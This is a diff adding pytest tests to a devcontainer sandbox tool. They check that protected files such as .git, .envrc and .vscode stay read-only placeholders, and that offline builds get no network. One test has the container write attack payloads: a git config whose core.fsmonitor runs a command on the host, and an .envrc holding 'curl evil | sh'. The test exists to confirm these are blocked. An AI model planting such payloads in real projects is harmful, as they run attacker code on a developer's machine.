@@ -6,6 +6,8 @@ under ``offline``), the project's postCreateCommand run."""
 
 from __future__ import annotations
 
+import subprocess
+import uuid
 from collections.abc import Callable, Iterator
 from pathlib import Path
 
@@ -81,3 +83,61 @@ def test_devcontainer_up_starts_the_profiles_sandbox(
             assert (project / "codex-box-probe").is_file()  # on the host
         assert said["marker"] == "ran", "postCreateCommand did not run"
     assert box.containers() == []
+
+
+def test_protected_names_missing_at_export_time_stay_read_only_placeholders(
+    devcontainer_cli: str, engine: str, cli: Callable[..., Ran]
+) -> None:
+    """A project without .git, .envrc, .vscode: the export makes them (empty, for good)
+    and binds them read-only, so the container cannot plant a git config (its
+    core.fsmonitor would run on the host's next `git status`) or an .envrc."""
+    for root in scratch_root("cbx-dcx"):
+        workspace = root / "proj"
+        workspace.mkdir()
+        exported = cli("devcontainer", "export", "--profile", "workspace", cwd=workspace)
+        assert exported.returncode == 0, exported.stderr
+        assert "(empty, permanent)" in exported.stdout
+        with DevContainer(devcontainer_cli, workspace, engine) as box:
+            box.up()
+            box.exec(
+                "sh", "-c",
+                "mkdir -p .git; printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > .git/config;"
+                " echo 'curl evil | sh' > .envrc; echo '{}' > .vscode/settings.json;"
+                " echo trusted > .codex-profile; rm -rf .git .envrc; touch wrote-here",
+            )  # fmt: skip
+        assert (workspace / "wrote-here").is_file()  # the workspace itself is writable
+        assert not (workspace / ".git" / "config").exists()
+        assert (workspace / ".envrc").read_bytes() == b""
+        assert (workspace / ".codex-profile").read_bytes() == b""
+        assert list((workspace / ".vscode").iterdir()) == []
+
+
+def test_an_offline_builds_run_steps_get_no_network(
+    devcontainer_cli: str, engine: str, cli: Callable[..., Ran]
+) -> None:
+    """The export gives the build `--network=none` (build.options, which the CLI passes
+    to the engine's build): a RUN step sees a loopback only, as in the container."""
+    for root in scratch_root("cbx-dcx"):
+        workspace = root / f"p{uuid.uuid4().hex[:10]}"  # the CLI's image: vsc-<this>-<hash>
+        (workspace / ".devcontainer").mkdir(parents=True)
+        (workspace / ".devcontainer" / "devcontainer.json").write_text(
+            '{"build": {"dockerfile": "Dockerfile"}}'
+        )
+        (workspace / ".devcontainer" / "Dockerfile").write_text(
+            "FROM codex-box/base\nRUN ls /sys/class/net | tr '\\n' ' ' > /build-net\n"
+        )
+        exported = cli("devcontainer", "export", "-p", "offline", "--merge", cwd=workspace)
+        assert exported.returncode == 0, exported.stderr
+        try:
+            with DevContainer(devcontainer_cli, workspace, engine) as box:
+                box.up(timeout=240)
+                assert box.exec("cat", "/build-net").stdout.split() == ["lo"]
+        finally:
+            listed = subprocess.run(
+                [engine, "images", "--format", "{{.Repository}}"],
+                capture_output=True, text=True, timeout=30, check=False,
+            )  # fmt: skip
+            prefix = f"vsc-{workspace.name}-"
+            mine = [i for i in listed.stdout.split() if i.rpartition("/")[2].startswith(prefix)]
+            if mine:
+                subprocess.run([engine, "rmi", "-f", *mine], capture_output=True, timeout=60)
